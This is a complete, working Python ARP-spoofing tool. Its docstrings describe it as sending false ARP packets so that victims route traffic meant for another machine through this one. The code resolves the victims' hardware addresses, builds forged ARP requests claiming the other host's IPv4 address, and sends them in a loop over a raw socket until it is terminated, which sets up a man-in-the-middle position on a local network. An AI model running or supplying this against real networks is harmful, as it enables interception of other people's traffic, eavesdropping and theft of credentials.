"""Send false ARP packets until the program is terminated. Arguments: VICTIM OTHER ...

The victim then sends its packets for the other machine to this one. ARP has no authentication: a
victim believes any sender.
"""

from __future__ import annotations

import socket
import sys
import time
from collections.abc import Sequence
from pathlib import Path

LINK = "eth0"
#: Seconds between two packets: the other machine's own packets correct the table again.
PAUSE = 0.3
#: The Ethernet type of ARP; then Ethernet, IPv4, the lengths of their addresses, "request".
HEAD = bytes.fromhex("08060001080006040001")
UNKNOWN = "00:00:00:00:00:00"


def frame(own: bytes, to: bytes, victim: str, other: str) -> bytes:
    """Return an ARP request to a victim that claims the other machine's address for this one.

    Parameters
    ----------
    own, to : bytes
        The hardware addresses of this machine and of the victim.
    victim, other : str
        The IPv4 addresses of the victim and of the other machine.
    """
    return to + own + HEAD + own + socket.inet_aton(other) + bytes(6) + socket.inet_aton(victim)


def hardware_address(text: str) -> bytes:
    """Return the bytes of a hardware address.

    Examples
    --------
    >>> hardware_address("02:42:0a:00:00:01").hex()
    '02420a000001'
    """
    return bytes.fromhex(text.strip().replace(":", ""))


def known(table: str, address: str) -> bytes | None:
    """Return the hardware address of an IPv4 address in the kernel's ARP table, or None."""
    for line in table.splitlines():
        fields = line.split()
        if fields[0] == address and fields[3] != UNKNOWN:
            return hardware_address(fields[3])
    return None


def owner(address: str) -> bytes:
    """Return the hardware address of an IPv4 address; make the kernel ask until it is known."""
    while True:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.sendto(b"", (address, 9))
        if found := known(Path("/proc/net/arp").read_text(), address):
            return found
        time.sleep(0.05)


def pairs(addresses: Sequence[str]) -> list[tuple[str, str]]:
    """Return pairs of a victim's address and the other machine's address."""
    return list(zip(addresses[::2], addresses[1::2], strict=True))


def main() -> None:
    """Send false packets until the program is terminated."""
    own = hardware_address(Path(f"/sys/class/net/{LINK}/address").read_text())
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((LINK, 0))
    frames = [frame(own, owner(victim), victim, other) for victim, other in pairs(sys.argv[1:])]
    while True:
        for each in frames:
            link.send(each)
        time.sleep(PAUSE)


if __name__ == "__main__":
    main()
